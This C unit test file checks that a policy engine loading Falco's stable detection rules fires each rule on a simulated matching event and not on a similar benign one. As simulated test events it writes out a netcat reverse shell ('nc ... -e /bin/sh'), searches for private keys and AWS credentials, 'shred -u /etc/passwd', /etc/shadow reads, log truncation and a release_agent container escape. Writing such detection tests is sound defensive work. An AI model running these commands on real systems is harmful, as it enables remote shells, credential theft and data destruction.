/* Each of Falco's 25 stable rules fires on the event that it is written for, and not on a like one. */
#include <fcntl.h>
#include <linux/openat2.h>
#include <sys/socket.h>

#include "tests/unit/policy_bench.h"

static struct bench b;

static void start(void)
{
    bench_start(&b);
    b.policy = policy_new();
    int status = policy_load_file(b.policy, "tests/data/falco_rules.yaml", &b.error);
    status = status ? status : policy_compile(b.policy, NULL, &b.error);
    ck_assert_msg(status == 0, "%s%s", b.error.message, b.error.hint);
    ck_assert(evaluator_init(&b.evaluator, policy_program(b.policy)));
    b.memo = memo_new(policy_program(b.policy));
}

static void end(void)
{
    bench_end(&b);
}

static bool fires(const char *rule)
{
    bench_judge(&b);
    for (unsigned i = 0; i < b.count; i++) {
        if (!strcmp(b.matches[i], rule)) {
            return true;
        }
    }
    return false;
}

static void set_args(struct policy_process *p, const char *name, const char *args)
{
    static char line[4][256];
    static unsigned n;
    char *text = line[n++ % 4];
    snprintf(text, sizeof(line[0]), "%s%s%s", name, *args ? " " : "", args);
    p->name = name;
    p->exe = (struct text){name, strlen(name)};
    p->args = (struct text){args, strlen(args)};
    p->cmdline = (struct text){text, strlen(text)};
}

/* The event becomes an exec whose process will be this. */
static void exec_as(const char *name, const char *args)
{
    unit_entry(&b.target, CALL_execve, 0, 0, 0);
    set_args(&b.process, name, args);
}

static void two_paths(enum call_id id, const char *first, const char *second)
{
    uint64_t a = unit_put(&b.target, 0, first, strlen(first) + 1);
    uint64_t c = unit_put(&b.target, 512, second, strlen(second) + 1);
    unit_entry(&b.target, id, a, c);
}

/* A call whose one argument reads as this word; the decoders are not what is tested here. */
static void one_word(enum call_id id, const char *word)
{
    struct event *e = &b.target.event;
    unit_entry(&b.target, id, 0);
    values_reset(&e->values);
    memset(e->value, 0, sizeof(e->value));
    e->value[0] = values_word(&e->values, "request", word);
}

START_TEST(test_directory_traversal)
{
    bench_openat(&b, "/etc/passwd", O_RDONLY);
    b.subject.fd.nameraw = TEXT("../../etc/passwd/../passwd");
    b.parent.name = "nginx";
    ck_assert(fires("Directory traversal monitored file read"));
    b.subject.fd.nameraw = TEXT("/etc/passwd");
    ck_assert(!fires("Directory traversal monitored file read"));
}
END_TEST

START_TEST(test_directory_traversal_failed)
{
    bench_openat(&b, "/etc/passwd", O_RDONLY);
    b.subject.fd.nameraw = TEXT("../../etc/passwd/../passwd");
    b.parent.name = "nginx";
    b.target.event.result_state = RESULT_KNOWN;
    b.target.event.result = -ENOENT;
    ck_assert(fires("Directory traversal monitored file read"));
}
END_TEST

START_TEST(test_read_sensitive_trusted)
{
    bench_openat(&b, "/etc/shadow", O_RDONLY);
    b.process.name = "nginx";
    ck_assert(fires("Read sensitive file trusted after startup"));
    b.process.started = b.target.event.time_ns - 1000000000;
    ck_assert(!fires("Read sensitive file trusted after startup"));
}
END_TEST

START_TEST(test_read_sensitive_untrusted)
{
    bench_openat(&b, "/etc/shadow", O_RDONLY);
    set_args(&b.process, "cat", "/etc/shadow");
    ck_assert(fires("Read sensitive file untrusted"));
    ck_assert_ptr_nonnull(strstr(b.alert.data,
                                 "Warning Sensitive file opened for reading by non-trusted program | "
                                 "file=/etc/shadow gparent=init ggparent=<NA>"));
    bench_openat(&b, "/etc/sudoers.d/x", O_RDWR);
    ck_assert(fires("Read sensitive file untrusted"));
    b.process.name = "sshd";
    ck_assert(!fires("Read sensitive file untrusted"));
}
END_TEST

START_TEST(test_failed_open_is_no_read)
{
    bench_openat(&b, "/etc/shadow", O_RDONLY);
    set_args(&b.process, "cat", "/etc/shadow");
    b.target.event.result_state = RESULT_KNOWN;
    b.target.event.result = -EACCES;
    ck_assert(!fires("Read sensitive file untrusted"));
}
END_TEST

START_TEST(test_shell_untrusted)
{
    exec_as("sh", "-c id");
    b.parent.name = "nginx";
    ck_assert(fires("Run shell untrusted"));
    b.parent.name = "init";
    b.grandparent.name = "mysqld";
    ck_assert(fires("Run shell untrusted"));
    b.grandparent.name = "init";
    ck_assert(!fires("Run shell untrusted"));
    b.grandparent.name = "mysqld";
    set_args(&b.process, "sh", "-c uname -a 2>&1");
    ck_assert(!fires("Run shell untrusted"));
}
END_TEST

START_TEST(test_system_user_interactive)
{
    exec_as("ls", "");
    b.process.user_name = "www-data";
    b.grandparent.name = "sshd";
    ck_assert(fires("System user interactive"));
    b.process.user_name = "root";
    ck_assert(!fires("System user interactive"));
}
END_TEST

START_TEST(test_terminal_shell)
{
    exec_as("bash", "");
    b.process.container = &b.container;
    b.process.tty = 34816;
    b.parent.name = "runc";
    ck_assert(fires("Terminal shell in container"));
    b.process.tty = 0;
    ck_assert(!fires("Terminal shell in container"));
    b.process.tty = 34816;
    b.process.parent = NULL;
    ck_assert(fires("Terminal shell in container"));
    b.process.container = NULL;
    ck_assert(!fires("Terminal shell in container"));
}
END_TEST

static void connected(const char *name, uint16_t port, uint8_t last)
{
    bench_openat(&b, name, 0);
    unit_entry(&b.target, CALL_connect, 3, 0, 0);
    b.subject.fd.num = 3;
    b.subject.fd.type = "ipv4";
    b.subject.fd.typechar = '4';
    b.subject.fd.l4proto = "tcp";
    b.subject.fd.server_ip = (struct policy_ip){4, {93, 184, 216, last}};
    b.subject.fd.client_ip = (struct policy_ip){4, {93, 1, 1, 1}};
    b.subject.fd.server_port = port;
}

START_TEST(test_k8s_api)
{
    connected("10.1.1.1:1->10.96.0.1:443", 443, 34);
    b.subject.fd.server_name = "kubernetes.default.svc.cluster.local";
    b.process.container = &b.container;
    ck_assert(fires("Contact K8S API Server From Container"));
    b.container.namespace = "kube-system";
    ck_assert(!fires("Contact K8S API Server From Container"));
}
END_TEST

START_TEST(test_netcat)
{
    exec_as("nc", "10.0.0.1 80 -e /bin/sh");
    b.process.container = &b.container;
    ck_assert(fires("Netcat Remote Code Execution in Container"));
    set_args(&b.process, "nc", "10.0.0.1 80");
    ck_assert(!fires("Netcat Remote Code Execution in Container"));
}
END_TEST

START_TEST(test_private_keys)
{
    exec_as("grep", "-r BEGIN RSA PRIVATE /");
    ck_assert(fires("Search Private Keys or Passwords"));
    exec_as("find", "/ -name id_rsa");
    ck_assert(fires("Search Private Keys or Passwords"));
    exec_as("find", "/ -name x");
    ck_assert(!fires("Search Private Keys or Passwords"));
}
END_TEST

START_TEST(test_clear_log)
{
    bench_openat(&b, "/var/log/messages", O_WRONLY | O_TRUNC);
    ck_assert(fires("Clear Log Activities"));
    bench_openat(&b, "/srv/auth.log", O_WRONLY | O_TRUNC);
    ck_assert(fires("Clear Log Activities"));
    bench_openat(&b, "/var/log/messages", O_WRONLY | O_APPEND);
    ck_assert(!fires("Clear Log Activities"));
    /* openat2 has its flags in memory. */
    const struct open_how how = {.flags = O_WRONLY | O_TRUNC};
    bench_openat(&b, "/var/log/messages", O_RDONLY);
    unit_entry(&b.target, CALL_openat2, (uint64_t)-100, UNIT_BASE,
               unit_put(&b.target, 512, &how, sizeof(how)), sizeof(how));
    ck_assert(fires("Clear Log Activities"));
}
END_TEST

START_TEST(test_remove_bulk_data)
{
    exec_as("shred", "-u /etc/passwd");
    ck_assert(fires("Remove Bulk Data from Disk"));
}
END_TEST

START_TEST(test_links)
{
    two_paths(CALL_symlink, "/etc/shadow", "/tmp/x");
    ck_assert(fires("Create Symlink Over Sensitive Files"));
    ck_assert_ptr_nonnull(strstr(b.alert.data, "target=/etc/shadow linkpath=/tmp/x "));
    two_paths(CALL_symlink, "/tmp/x", "/etc/shadow");
    ck_assert(!fires("Create Symlink Over Sensitive Files"));
    two_paths(CALL_link, "/etc/shadow", "/tmp/x");
    ck_assert(fires("Create Hardlink Over Sensitive Files"));
    two_paths(CALL_link, "/tmp/x", "/etc/shadow");
    ck_assert(!fires("Create Hardlink Over Sensitive Files"));
}
END_TEST

START_TEST(test_packet_socket)
{
    b.process.container = &b.container;
    unit_entry(&b.target, CALL_socket, AF_PACKET, SOCK_RAW, 0);
    ck_assert(fires("Packet socket created in container"));
    unit_entry(&b.target, CALL_socket, AF_INET, SOCK_STREAM, 0);
    ck_assert(!fires("Packet socket created in container"));
}
END_TEST

START_TEST(test_redirect)
{
    connected("a->b", 4444, 34);
    unit_entry(&b.target, CALL_dup2, 3, 1);
    b.process.container = &b.container;
    ck_assert(fires("Redirect STDOUT/STDIN to Network Connection in Container"));
    ck_assert_ptr_nonnull(strstr(b.json.data, "\"predicted\":true"));
    unit_entry(&b.target, CALL_dup2, 3, 7);
    ck_assert(!fires("Redirect STDOUT/STDIN to Network Connection in Container"));
    unit_exit(&b.target, CALL_dup2, 2, 3, 2);
    ck_assert(fires("Redirect STDOUT/STDIN to Network Connection in Container"));
    ck_assert_ptr_null(strstr(b.json.data, "predicted"));
}
END_TEST

START_TEST(test_kernel_module)
{
    unit_entry(&b.target, CALL_finit_module, 3, 0, 0);
    b.process.container = &b.container;
    b.process.cap_effective = 1u << 16;
    ck_assert(fires("Linux Kernel Module Injection Detected"));
    b.process.cap_effective = 1u << 15;
    ck_assert(!fires("Linux Kernel Module Injection Detected"));
}
END_TEST

START_TEST(test_debugfs)
{
    exec_as("debugfs", "");
    b.process.container = &b.container;
    b.container.privileged = 1;
    ck_assert(fires("Debugfs Launched in Privileged Container"));
    b.container.privileged = POLICY_UNKNOWN;
    ck_assert(!fires("Debugfs Launched in Privileged Container"));
}
END_TEST

START_TEST(test_release_agent)
{
    bench_openat(&b, "/sys/fs/cgroup/rdma/release_agent", O_WRONLY);
    b.process.container = &b.container;
    b.process.cap_effective = 1u << 21 | 1u << 1;
    ck_assert(fires("Detect release_agent File Container Escapes"));
    b.process.cap_effective = 1u << 21;
    ck_assert(!fires("Detect release_agent File Container Escapes"));
    b.process.uid = 0;
    ck_assert(fires("Detect release_agent File Container Escapes"));
}
END_TEST

START_TEST(test_ptrace)
{
    one_word(CALL_ptrace, "PTRACE_ATTACH");
    ck_assert(fires("PTRACE attached to process"));
    ck_assert(!fires("PTRACE anti-debug attempt"));
    one_word(CALL_ptrace, "PTRACE_TRACEME");
    ck_assert(fires("PTRACE anti-debug attempt"));
    ck_assert(!fires("PTRACE attached to process"));
}
END_TEST

START_TEST(test_aws)
{
    exec_as("grep", "-r AWS_SECRET_ACCESS_KEY /");
    ck_assert(fires("Find AWS Credentials"));
    exec_as("find", "/root/.aws/credentials");
    ck_assert(fires("Find AWS Credentials"));
}
END_TEST

START_TEST(test_dev_shm)
{
    exec_as("x", "");
    b.process.exe = TEXT("/dev/shm/x");
    ck_assert(fires("Execution from /dev/shm"));
    exec_as("x", "");
    b.process.exe = TEXT("./x");
    b.process.cwd = "/dev/shm/a";
    ck_assert(fires("Execution from /dev/shm"));
    b.process.cwd = "/tmp";
    ck_assert(!fires("Execution from /dev/shm"));
}
END_TEST

START_TEST(test_drop_and_execute)
{
    exec_as("x", "");
    b.process.container = &b.container;
    b.process.exe_upper_layer = 1;
    ck_assert(fires("Drop and execute new binary in container"));
    b.process.exe_upper_layer = 0;
    ck_assert(!fires("Drop and execute new binary in container"));
}
END_TEST

START_TEST(test_ssh_port)
{
    connected("a->b", 443, 34);
    set_args(&b.process, "ssh", "");
    b.process.exe = TEXT("/usr/bin/ssh");
    ck_assert(fires("Disallowed SSH Connection Non Standard Port"));
    b.subject.fd.server_ip = (struct policy_ip){4, {10, 0, 0, 1}};
    ck_assert(!fires("Disallowed SSH Connection Non Standard Port"));
    connected("a->b", 22, 34);
    ck_assert(!fires("Disallowed SSH Connection Non Standard Port"));
}
END_TEST

START_TEST(test_memfd)
{
    exec_as("3", "");
    b.process.exe_memfd = 1;
    ck_assert(fires("Fileless execution via memfd_create"));
    b.process.name = "runc";
    ck_assert(!fires("Fileless execution via memfd_create"));
}
END_TEST

/* Rules as older files write them: both directions, arguments by number, append, container.image. */
START_TEST(test_older_rules)
{
    bench_load(
        &b,
        "- macro: container\n  condition: container.id != host\n"
        "- macro: spawned_process\n  condition: evt.type = execve and evt.dir=<\n"
        "- list: shells\n  items: [bash, sh]\n"
        "- list: package_mgmt\n  items: [apt, apt-get]\n"
        "- list: package_mgmt\n  append: true\n  items: [dpkg]\n"
        "- macro: modify\n  condition: (evt.type in (rename, renameat, unlink, unlinkat) and evt.dir=<)\n"
        "- rule: shell in container\n  desc: d\n"
        "  condition: spawned_process and container and proc.name in (shells) and proc.tty != 0\n"
        "  output: \"shell (user=%user.name %container.info id=%container.id image=%container.image)\"\n"
        "  priority: NOTICE\n"
        "- rule: write below etc\n  desc: d\n"
        "  condition: (evt.type = open or evt.type = openat) and evt.is_open_write = true and "
        "fd.typechar='f'\n"
        "    and fd.num >= 0 and fd.name startswith /etc and not proc.name in (useradd)\n"
        "  output: \"%evt.time,%user.name,%container.id\"\n  priority: ERROR\n"
        "- rule: package manager\n  desc: d\n"
        "  condition: spawned_process and container and proc.name in (package_mgmt)\n"
        "  output: o\n  priority: ERROR\n"
        "- rule: history\n  desc: d\n"
        "  condition: modify and (evt.arg.name contains bash_history or evt.arg.path endswith bash_history\n"
        "    or evt.arg.oldpath contains \"bash_history\" or evt.arg[0] endswith zsh_history)\n"
        "  output: o\n  priority: WARNING\n");
    exec_as("bash", "");
    b.process.container = &b.container;
    b.process.tty = 34816;
    ck_assert(fires("shell in container"));
    exec_as("dpkg", "-i x");
    ck_assert(fires("package manager"));
    bench_openat(&b, "/etc/x", O_RDWR | O_CREAT);
    ck_assert(fires("write below etc"));
    two_paths(CALL_rename, "/root/.bash_history", "/tmp/x");
    ck_assert(fires("history"));
    two_paths(CALL_unlink, "/root/.bash_history", "");
    ck_assert(fires("history"));
    two_paths(CALL_unlink, "/root/.zsh_history", "");
    ck_assert(fires("history"));
    two_paths(CALL_unlink, "/root/x", "");
    ck_assert(!fires("history"));
}
END_TEST

START_TEST(test_calls_that_are_needed)
{
    struct call_set calls = {{0}};
    policy_calls(b.policy, &calls);
    ck_assert(call_set_has(&calls, CALL_openat));
    ck_assert(call_set_has(&calls, CALL_execve));
    ck_assert(call_set_has(&calls, CALL_ptrace));
    ck_assert(!call_set_has(&calls, CALL_read));
    ck_assert(!call_set_has(&calls, CALL_close));
}
END_TEST

START_TEST(test_memory_of_a_process)
{
    bench_openat(&b, "/etc/shadow", O_RDONLY);
    set_args(&b.process, "cat", "/etc/shadow");
    ck_assert(fires("Read sensitive file untrusted"));
    b.process.name = "sshd"; /* as after an exec that nobody told of: the answer is remembered */
    b.count = 0;
    evaluate(&b.evaluator, &b.subject, b.memo, bench_on_match, &b);
    ck_assert_uint_eq(b.count, 1);
    memo_forget(b.memo);
    b.count = 0;
    evaluate(&b.evaluator, &b.subject, b.memo, bench_on_match, &b);
    ck_assert_uint_eq(b.count, 0);
}
END_TEST

int main(void)
{
    Suite *suite = suite_create("policy_falco");
    TCase *tc = tcase_create("rules");
    const TTest *const tests[] = {test_directory_traversal,
                                  test_directory_traversal_failed,
                                  test_read_sensitive_trusted,
                                  test_read_sensitive_untrusted,
                                  test_failed_open_is_no_read,
                                  test_shell_untrusted,
                                  test_system_user_interactive,
                                  test_terminal_shell,
                                  test_k8s_api,
                                  test_netcat,
                                  test_private_keys,
                                  test_clear_log,
                                  test_remove_bulk_data,
                                  test_links,
                                  test_packet_socket,
                                  test_redirect,
                                  test_kernel_module,
                                  test_debugfs,
                                  test_release_agent,
                                  test_ptrace,
                                  test_aws,
                                  test_dev_shm,
                                  test_drop_and_execute,
                                  test_ssh_port,
                                  test_memfd,
                                  test_older_rules,
                                  test_calls_that_are_needed,
                                  test_memory_of_a_process};
    tcase_add_checked_fixture(tc, start, end);
    for (size_t i = 0; i < sizeof(tests) / sizeof(tests[0]); i++) {
        tcase_add_test(tc, tests[i]);
    }
    suite_add_tcase(suite, tc);
    return unit_run(suite);
}
